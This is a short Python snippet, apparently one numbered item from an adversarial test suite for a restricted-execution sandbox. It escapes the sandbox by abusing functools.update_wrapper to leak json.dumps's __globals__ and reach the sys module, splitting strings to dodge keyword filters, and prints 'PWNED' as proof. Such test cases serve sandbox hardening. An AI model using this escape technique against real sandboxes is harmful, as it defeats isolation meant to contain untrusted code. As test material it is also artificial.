# adversary round 3: 025_min_update_wrapper_sys
import functools,json
class S:
 def __setattr__(s,n,v):
  if n[2]=="g":print(v["s"+"ys"],"PWN"+"ED")
functools.update_wrapper(S(),json.dumps,("__glo"+"bals__",),())
